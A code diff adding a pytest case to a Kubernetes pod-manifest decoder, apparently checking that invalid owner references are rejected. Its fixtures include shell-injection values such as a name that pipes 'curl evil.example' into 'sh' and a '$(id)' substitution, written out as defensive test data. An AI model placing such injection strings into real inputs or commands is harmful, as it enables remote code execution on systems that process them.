@@ -184,6 +184,28 @@ def test_an_owner_is_not_mistaken_for_equal_container_names() -> None:
 
 
 @pytest.mark.parametrize(
+    "changed",
+    [
+        {"name": "llm; curl evil.example | sh"},
+        {"name": "$(id)"},
+        {"name": "llm\x1b[2J"},
+        {"name": "x" * 254},
+        {"kind": "StatefulSet\n"},
+        {"kind": "K" * 100_000},
+        {"apiVersion": "apps/v1 "},
+    ],
+    ids=lambda changed: str(changed)[:40],
+)
+def test_an_owner_that_cannot_exist_is_left_out(changed: dict[str, str]) -> None:
+    manifest = spec({"name": "a"})
+    owner = {"apiVersion": "apps/v1", "kind": "StatefulSet", "name": "llm", "controller": True}
+    manifest["metadata"]["ownerReferences"] = [owner | changed]
+    assert PodDecoder().decode(raw(manifest)).owner is None
+    manifest["metadata"]["ownerReferences"] = [owner]
+    assert PodDecoder().decode(raw(manifest)).owner == Owner("apps/v1", "StatefulSet", "llm")
+
+
+@pytest.mark.parametrize(
     ("manifest", "path"),
     [
         ({"spec": {}}, "metadata"),
